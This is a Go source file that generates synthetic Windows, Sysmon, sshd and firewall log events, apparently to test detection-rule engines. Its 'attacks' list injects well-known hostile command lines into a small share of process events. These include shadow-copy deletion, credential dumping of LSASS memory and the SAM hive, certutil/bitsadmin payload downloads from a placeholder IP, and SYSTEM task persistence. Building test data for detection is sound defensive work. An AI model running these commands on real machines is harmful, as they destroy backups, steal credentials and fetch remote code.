package main

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// sample is one event in the two forms in which it is read: ours as a shipper sends it, flat for engines that want Sigma's names.
type sample struct {
	ours, flat  []byte
	commandLine string
}

// shape is what the events are like.
type shape string

const (
	usual   shape = "usual"
	odd     shape = "any parent for any process, log-offs, PowerShell and Office on the network: rules for oddities hit one event in six"
	scripts shape = "one event in four a PowerShell script block of 2 to 8 kB"
	blobs   shape = "every second command line has 200 to 1,200 characters of base64"
	images  shape = "each process in a folder of its own: no image occurs twice"
)

// generator draws events of a quiet network of 400 Windows machines, 40 servers and their firewalls. About one in a thousand does what an
// attacker would.
type generator struct {
	shape shape
	r     *rand.Rand
	now   time.Time
	users []string
	hosts []string
	b     pairs
}

func newGenerator(seed uint64, s shape) *generator {
	g := &generator{shape: s, r: rand.New(rand.NewPCG(seed, 7)), now: time.Date(2026, 10, 5, 8, 0, 0, 0, time.UTC)}
	for range 900 {
		g.users = append(g.users, g.pick(given)+"."+g.pick(family)+strconv.Itoa(g.r.IntN(90)))
	}
	for i := range 400 {
		g.hosts = append(g.hosts, fmt.Sprintf("ws%03d-%s", i, g.word(3)))
	}
	return g
}

var (
	given   = strings.Fields("anna ben carla david eva felix gina hans ida jan karin lukas maria nils olga paul rita sven tina udo vera")
	family  = strings.Fields("abel brandt cramer dietz ernst fuchs gross hahn iven jung koch lang mohr noll otto pohl rau seidel thoma vogt wolf zander")
	nouns   = strings.Fields("report budget plan offer draft notes slides contract minutes order invoice photo scan list backup export summary form letter table")
	folders = strings.Fields("Projects Finance Sales Team Archive Customers Travel Personal Drafts Orders Support Quality")
	apps    = []string{`Google\Chrome\Application\chrome.exe`, `Microsoft Office\root\Office16\WINWORD.EXE`, `Microsoft Office\root\Office16\EXCEL.EXE`, `Microsoft Office\root\Office16\OUTLOOK.EXE`,
		`Mozilla Firefox\firefox.exe`, `7-Zip\7zFM.exe`, `Notepad++\notepad++.exe`, `Adobe\Acrobat DC\Acrobat\Acrobat.exe`, `Git\cmd\git.exe`, `nodejs\node.exe`, `Java\jre\bin\javaw.exe`, `VideoLAN\VLC\vlc.exe`}
	parents = []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\cmd.exe`, `C:\Windows\System32\taskeng.exe`,
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Program Files\Google\Chrome\Application\chrome.exe`, `C:\Program Files\Git\cmd\git.exe`, `C:\Windows\System32\userinit.exe`}
	dlls = []string{`C:\Windows\System32\ntdll.dll`, `C:\Windows\System32\kernel32.dll`, `C:\Windows\System32\user32.dll`, `C:\Windows\System32\ws2_32.dll`, `C:\Windows\System32\crypt32.dll`,
		`C:\Windows\System32\msvcrt.dll`, `C:\Windows\System32\wininet.dll`, `C:\Windows\System32\dbghelp.dll`, `C:\Windows\System32\taskschd.dll`, `C:\Windows\SysWOW64\version.dll`}
	keys = []string{`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\`, `HKU\S-1-5-21-101-102-103-1%03d\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\`,
		`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\`, `HKU\S-1-5-21-101-102-103-1%03d\Software\Microsoft\Office\16.0\Word\Reading Locations\`, `HKLM\SOFTWARE\Classes\CLSID\`}
	services = strings.Fields("Schedule BITS wuauserv Themes UserManager Winmgmt Dnscache LanmanServer")
	sites    = strings.Fields("cdn mail www api login static img files news shop update sync")
	// Attacks that anyone who watches Windows knows.
	attacks = [][2]string{
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`},
		{`C:\Windows\System32\vssadmin.exe`, `vssadmin.exe delete shadows /all /quiet`},
		{`C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 612 C:\Users\Public\l.dmp full`},
		{`C:\Windows\System32\certutil.exe`, `certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`},
		{`C:\Windows\System32\reg.exe`, `reg.exe save HKLM\SAM C:\Users\Public\sam.save`},
		{`C:\Windows\System32\wbem\WMIC.exe`, `wmic.exe process call create "cmd.exe /c whoami"`},
		{`C:\Windows\System32\schtasks.exe`, `schtasks.exe /create /sc minute /mo 5 /tn Updater /tr C:\Users\Public\u.exe /ru SYSTEM`},
		{`C:\Windows\System32\bitsadmin.exe`, `bitsadmin.exe /transfer job /download /priority high http://203.0.113.9/b.dll C:\Users\Public\b.dll`},
	}
)

func (g *generator) pick(from []string) string { return from[g.r.IntN(len(from))] }

func (g *generator) word(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = "bcdfghjklmnprstvwaeiou"[g.r.IntN(22)]
	}
	return string(b)
}

func (g *generator) hex(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(g.r.Uint32())
	}
	return strings.ToUpper(hex.EncodeToString(b))
}

func (g *generator) guid() string {
	return fmt.Sprintf("{%s-%s-%s-%s-%s}", g.hex(4), g.hex(2), g.hex(2), g.hex(2), g.hex(6))
}

func (g *generator) address() string {
	return fmt.Sprintf("192.0.2.%d", g.r.IntN(254)+1)
}

// event draws the next one. What it gives is valid until the next call but for commandLine.
func (g *generator) event() sample {
	g.now = g.now.Add(time.Duration(g.r.IntN(20)) * time.Millisecond)
	if g.shape == scripts && g.r.IntN(4) == 0 {
		return g.script()
	}
	switch n := g.r.IntN(1000); {
	case n < 480:
		return g.process()
	case n < 560:
		return g.logon()
	case n < 630:
		return g.file()
	case n < 720:
		return g.registry()
	case n < 800:
		return g.image()
	case n < 850:
		return g.dns()
	case n < 920:
		return g.network()
	case n < 960:
		return g.sshd()
	}
	return g.firewall()
}

// commandLine draws one for image, but for what Windows itself starts.
func (g *generator) commandLine(image string) string {
	if g.shape == blobs && g.r.IntN(2) == 0 {
		b := make([]byte, 150+g.r.IntN(750))
		for i := range b {
			b[i] = byte(g.r.Uint32())
		}
		return fmt.Sprintf(`"%s" --state=%s --session %d`, image, base64.StdEncoding.EncodeToString(b), g.r.IntN(1e6))
	}
	switch g.r.IntN(10) {
	case 0:
		return `"` + image + `"`
	case 1, 2, 3, 4:
		return fmt.Sprintf(`"%s" --type=renderer --field-trial-handle=%d,i,%d,%d --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=%d --time-ticks-at-unix-epoch=-%d --launch-time-ticks=%d`,
			image, g.r.IntN(9000), g.r.Uint64N(1e18), g.r.Uint64N(1e18), g.r.IntN(900), g.r.Uint64N(1e15), g.r.Uint64N(1e11))
	case 5, 6, 7:
		return fmt.Sprintf(`"%s" /n "C:\Users\%s\Documents\%s\%s %s %d.docx"`, image, g.pick(g.users), g.pick(folders), g.pick(nouns), g.word(5), g.r.IntN(2000))
	case 8:
		return fmt.Sprintf(`"%s" -File C:\Work\%s-%s.txt -Server %s -Out C:\Work\%s.log`, image, g.pick(nouns), g.word(4), g.pick(g.hosts), g.word(8))
	}
	return fmt.Sprintf(`"%s" status --porcelain=v2 --branch --untracked-files=all C:\src\%s\%s`, image, g.word(6), g.word(7))
}

// family draws a process and its parent, each with its command line.
func (g *generator) family() (image, line, parent, parentLine string) {
	if g.shape == odd {
		image, parent = g.program(), g.pick(parents)
		return image, g.commandLine(image), parent, g.commandLine(parent)
	}
	switch g.r.IntN(10) {
	case 0:
		image, parent, parentLine = `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`
		return image, fmt.Sprintf(`C:\Windows\system32\svchost.exe -k netsvcs -p -s %s`, g.pick(services)), parent, parentLine
	case 1:
		image = `C:\Windows\System32\` + g.pick([]string{"taskhostw.exe", "backgroundTaskHost.exe", "RuntimeBroker.exe", "SearchIndexer.exe"})
		parent, parentLine = `C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`
		return image, fmt.Sprintf(`%s -Embedding {%s}`, image, strings.Trim(g.guid(), "{}")), parent, parentLine
	case 2, 3, 4:
		image = `C:\Program Files\` + g.pick(apps)
		return image, g.commandLine(image), image, g.commandLine(image)
	}
	image, parent = g.program(), `C:\Windows\explorer.exe`
	return image, g.commandLine(image), parent, `C:\Windows\Explorer.EXE`
}

// script draws a part of a script as PowerShell logs it.
func (g *generator) script() sample {
	g.b.begin(g, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", "4104", "ps_script", "powershell")
	var b strings.Builder
	for size := 2000 + g.r.IntN(6000); b.Len() < size; {
		switch g.r.IntN(4) {
		case 0:
			fmt.Fprintf(&b, "function Get-%s%s { param([string]$%s, [int]$%s) \n", g.pick(nouns), g.word(4), g.word(6), g.word(5))
		case 1:
			fmt.Fprintf(&b, "    $%s = Get-ChildItem -Path C:\\Work\\%s -Filter *.%s | Where-Object { $_.Length -gt %d }\n", g.word(6), g.word(7), g.word(3), g.r.IntN(1e6))
		case 2:
			fmt.Fprintf(&b, "    # %s %s %s %s %s\n", g.word(5), g.word(3), g.word(8), g.word(6), g.word(4))
		default:
			fmt.Fprintf(&b, "    Write-Output (\"%s: {0} of {1}\" -f $%s.%s, $%s)\n}\n", g.pick(nouns), g.word(6), g.word(5), g.word(7))
		}
	}
	g.b.data("MessageNumber", "1")
	g.b.data("MessageTotal", "1")
	g.b.data("ScriptBlockText", b.String())
	g.b.data("ScriptBlockId", strings.Trim(g.guid(), "{}"))
	g.b.data("Path", `C:\Work\`+g.word(8)+`.ps1`)
	return g.b.done("Creating Scriptblock text")
}

func (g *generator) image() sample {
	image := g.program()
	dll := g.pick(dlls)
	if g.r.IntN(3) == 0 {
		dll = `C:\Program Files\` + g.pick(folders) + `\` + g.word(8) + `.dll`
	}
	g.sysmon("7", "image_load", image)
	g.b.data("ImageLoaded", dll)
	g.b.data("FileVersion", "10.0.19041.1")
	g.b.data("Description", "Library "+g.word(5))
	g.b.data("Product", "Microsoft® Windows® Operating System")
	g.b.data("Company", "Microsoft Corporation")
	g.b.data("OriginalFileName", dll[strings.LastIndexByte(dll, '\\')+1:])
	g.b.data("Hashes", g.hashes())
	g.b.data("Signed", "true")
	g.b.data("Signature", "Microsoft Windows")
	g.b.data("SignatureStatus", "Valid")
	return g.b.done("Image loaded")
}

func (g *generator) program() string {
	switch n := g.r.IntN(4); {
	case g.shape == images:
		return fmt.Sprintf(`C:\Program Files\%s\%s %s\%s%s.exe`, g.word(9), g.word(6), g.word(8), g.word(5), g.word(6))
	case n == 0 && g.shape == odd:
		return g.pick(parents)
	case n == 1:
		return `C:\Users\` + g.pick(g.users) + `\AppData\Local\Programs\` + g.word(6) + `\` + g.word(7) + `.exe`
	}
	return `C:\Program Files\` + g.pick(apps)
}

func (g *generator) hashes() string {
	return "MD5=" + g.hex(16) + ",SHA256=" + g.hex(32) + ",IMPHASH=" + g.hex(16)
}

func (g *generator) sysmon(id, category, image string) {
	g.b.begin(g, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", id, category, "sysmon")
	g.b.data("RuleName", "-")
	g.b.data("UtcTime", g.now.Format("2006-01-02 15:04:05.000"))
	g.b.data("ProcessGuid", g.guid())
	g.b.data("ProcessId", strconv.Itoa(g.r.IntN(30000)))
	g.b.data("Image", image)
	g.b.data("User", `CORP\`+g.pick(g.users))
}

func (g *generator) process() sample {
	image, line, parent, parentLine := g.family()
	if g.r.IntN(480) == 0 {
		a := attacks[g.r.IntN(len(attacks))]
		image, line = a[0], a[1]
	}
	g.sysmon("1", "process_creation", image)
	g.b.data("FileVersion", "10.0."+strconv.Itoa(g.r.IntN(20000))+".1")
	g.b.data("Description", "Program "+g.word(5))
	g.b.data("Product", "Product "+g.word(4))
	g.b.data("Company", g.pick([]string{"Microsoft Corporation", "Google LLC", "Mozilla Corporation", "Example Software"}))
	g.b.data("OriginalFileName", image[strings.LastIndexByte(image, '\\')+1:])
	g.b.data("CommandLine", line)
	g.b.data("CurrentDirectory", `C:\Users\`+g.pick(g.users)+`\`)
	g.b.data("LogonGuid", g.guid())
	g.b.data("LogonId", "0x"+strings.ToLower(g.hex(3)))
	g.b.data("TerminalSessionId", "1")
	g.b.data("IntegrityLevel", g.pick([]string{"Medium", "High", "Low", "System"}))
	g.b.data("Hashes", g.hashes())
	g.b.data("ParentProcessGuid", g.guid())
	g.b.data("ParentProcessId", strconv.Itoa(g.r.IntN(30000)))
	g.b.data("ParentImage", parent)
	g.b.data("ParentCommandLine", parentLine)
	g.b.data("ParentUser", `CORP\`+g.pick(g.users))
	s := g.b.done("Process Create")
	s.commandLine = line
	return s
}

func (g *generator) file() sample {
	g.sysmon("11", "file_event", g.program())
	g.b.data("TargetFilename", `C:\Users\`+g.pick(g.users)+`\`+g.pick([]string{`Documents`, `AppData\Local\Temp`, `Downloads`, `AppData\Roaming\Microsoft\Windows\Recent`})+`\`+g.pick(nouns)+" "+g.word(6)+g.pick([]string{".docx", ".tmp", ".pdf", ".lnk", ".xlsx", ".png", ".json"}))
	g.b.data("CreationUtcTime", g.now.Format("2006-01-02 15:04:05.000"))
	return g.b.done("File created")
}

func (g *generator) registry() sample {
	k := g.pick(keys)
	if strings.Contains(k, "%") {
		k = fmt.Sprintf(k, g.r.IntN(900))
	}
	g.sysmon("13", "registry_set", g.program())
	g.b.data("EventType", "SetValue")
	g.b.data("TargetObject", k+g.guid()+`\`+g.word(6))
	g.b.data("Details", g.pick([]string{"DWORD (0x00000001)", "Binary Data", "QWORD (0x01d7-0x9a3c)", "text " + g.word(6)}))
	return g.b.done("Registry value set")
}

func (g *generator) dns() sample {
	g.sysmon("22", "dns_query", g.program())
	g.b.data("QueryName", g.pick(sites)+"."+g.word(7)+".example."+g.pick([]string{"com", "net", "org"}))
	g.b.data("QueryStatus", "0")
	g.b.data("QueryResults", "::ffff:"+g.address()+";")
	return g.b.done("Dns query")
}

func (g *generator) network() sample {
	image := `C:\Program Files\` + apps[0]
	if g.shape == odd || g.r.IntN(2) == 0 {
		if image = g.program(); g.shape != odd && strings.Contains(image, "Office") {
			image = `C:\Windows\System32\svchost.exe`
		}
	}
	g.sysmon("3", "network_connection", image)
	g.b.data("Protocol", "tcp")
	g.b.data("Initiated", "true")
	g.b.data("SourceIsIpv6", "false")
	g.b.data("SourceIp", "10.1."+strconv.Itoa(g.r.IntN(250))+"."+strconv.Itoa(g.r.IntN(250)))
	g.b.data("SourceHostname", g.pick(g.hosts)+".corp.example")
	g.b.data("SourcePort", strconv.Itoa(49152+g.r.IntN(16000)))
	g.b.data("DestinationIsIpv6", "false")
	g.b.data("DestinationIp", g.address())
	g.b.data("DestinationHostname", g.pick(sites)+"."+g.word(6)+".example.com")
	g.b.data("DestinationPort", g.pick([]string{"443", "443", "443", "80", "53", "445", "389"}))
	return g.b.done("Network connection detected")
}

func (g *generator) logon() sample {
	id, text := "4624", "An account was successfully logged on."
	switch g.r.IntN(8) {
	case 0:
		id, text = "4625", "An account failed to log on."
	case 1, 2:
		if id, text = "4648", "A logon was attempted using explicit credentials."; g.shape == odd {
			id, text = "4634", "An account was logged off."
		}
	}
	g.b.begin(g, "Security", "Microsoft-Windows-Security-Auditing", id, "", "security")
	g.b.data("SubjectUserSid", "S-1-5-18")
	g.b.data("SubjectUserName", g.pick(g.hosts)+"$")
	g.b.data("SubjectDomainName", "CORP")
	g.b.data("SubjectLogonId", "0x3e7")
	g.b.data("TargetUserSid", fmt.Sprintf("S-1-5-21-101-102-103-%d", 1000+g.r.IntN(900)))
	g.b.data("TargetUserName", g.pick(g.users))
	g.b.data("TargetDomainName", "CORP")
	g.b.data("TargetLogonId", "0x"+strings.ToLower(g.hex(3)))
	g.b.data("LogonType", g.pick([]string{"3", "3", "3", "2", "5", "10", "7"}))
	g.b.data("LogonProcessName", "Kerberos")
	g.b.data("AuthenticationPackageName", "Kerberos")
	g.b.data("WorkstationName", strings.ToUpper(g.pick(g.hosts)))
	g.b.data("LogonGuid", g.guid())
	g.b.data("ProcessName", `C:\Windows\System32\lsass.exe`)
	g.b.data("IpAddress", "10.1."+strconv.Itoa(g.r.IntN(250))+"."+strconv.Itoa(g.r.IntN(250)))
	g.b.data("IpPort", strconv.Itoa(49152+g.r.IntN(16000)))
	return g.b.done(text)
}

func (g *generator) sshd() sample {
	host, user := fmt.Sprintf("srv%02d", g.r.IntN(40)), g.pick(g.users)
	text := fmt.Sprintf("Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s", user, g.address(), 1024+g.r.IntN(60000), g.word(43))
	if g.r.IntN(3) == 0 {
		text = fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", g.word(6), g.address(), 1024+g.r.IntN(60000))
	}
	pid := 300 + g.r.IntN(30000)
	line := fmt.Sprintf("<38>1 %s %s sshd %d - - %s", g.now.Format("2006-01-02T15:04:05.000Z"), host, pid, text)
	flat := fmt.Sprintf(`{"product":"linux","service":"sshd","timestamp":%q,"hostname":%q,"program":"sshd","pid":%d,"message":%q}`, g.now.Format(time.RFC3339Nano), host, pid, text)
	return sample{ours: []byte(line), flat: []byte(flat)}
}

func (g *generator) firewall() sample {
	src, dst := "10.1."+strconv.Itoa(g.r.IntN(250))+"."+strconv.Itoa(g.r.IntN(250)), g.address()
	spt, dpt := 1024+g.r.IntN(60000), g.pick([]string{"443", "80", "53", "22", "123"})
	text := fmt.Sprintf("[UFW BLOCK] IN=eth0 OUT= MAC=00:00:5e:00:53:01:00:00:5e:00:53:02:08:00 SRC=%s DST=%s LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID=%d DF PROTO=TCP SPT=%d DPT=%s WINDOW=64240 RES=0x00 SYN URGP=0", src, dst, g.r.IntN(65000), spt, dpt)
	line := fmt.Sprintf("<4>1 %s fw1 kernel - - - %s", g.now.Format("2006-01-02T15:04:05.000Z"), text)
	flat := fmt.Sprintf(`{"product":"linux","category":"firewall","timestamp":%q,"hostname":"fw1","action":"blocked","src_ip":%q,"dst_ip":%q,"src_port":%d,"dst_port":%s,"protocol":"tcp","message":%q}`,
		g.now.Format(time.RFC3339Nano), src, dst, spt, dpt, text)
	return sample{ours: []byte(line), flat: []byte(flat)}
}

// pairs writes a Windows event in both forms.
type pairs struct {
	ours, flat []byte
	first      bool
}

func (p *pairs) begin(g *generator, channel, provider, id, category, service string) {
	host, record := g.pick(g.hosts), strconv.Itoa(1e6+g.r.IntN(1e7))
	at := g.now.Format("2006-01-02T15:04:05.000Z")
	p.ours = fmt.Appendf(nil, `{"@timestamp":%q,"host":{"name":%q},"agent":{"type":"winlogbeat","version":"8.15.0","name":%q},"event":{"code":%q,"provider":%q,"created":%q},"winlog":{"channel":%q,"event_id":%s,"provider_name":%q,"computer_name":"%s.corp.example","record_id":%s,"event_data":{`,
		at, host, host, id, provider, at, channel, id, provider, host, record)
	p.flat = fmt.Appendf(nil, `{"product":"windows","service":%q,"Channel":%q,"Provider_Name":%q,"EventID":%s,"Computer":"%s.corp.example","EventRecordID":%s,"UtcTime":%q`, service, channel, provider, id, host, record, at)
	if category != "" {
		p.flat = fmt.Appendf(p.flat, `,"category":%q`, category)
	}
	p.first = true
}

func (p *pairs) data(name, value string) {
	if !p.first {
		p.ours = append(p.ours, ',')
	}
	p.first = false
	p.ours = appendPair(p.ours, name, value)
	if name != "UtcTime" {
		p.flat = appendPair(append(p.flat, ','), name, value)
	}
}

func appendPair(b []byte, name, value string) []byte {
	b = append(append(append(b, '"'), name...), `":"`...)
	for i := range len(value) {
		c := value[i]
		if c == '\n' {
			b = append(b, `\n`...)
			continue
		}
		if c == '"' || c == '\\' {
			b = append(b, '\\')
		}
		b = append(b, c)
	}
	return append(b, '"')
}

func (p *pairs) done(message string) sample {
	p.ours = fmt.Appendf(p.ours, `}},"message":%q}`, message)
	p.flat = append(p.flat, '}')
	return sample{ours: p.ours, flat: p.flat}
}
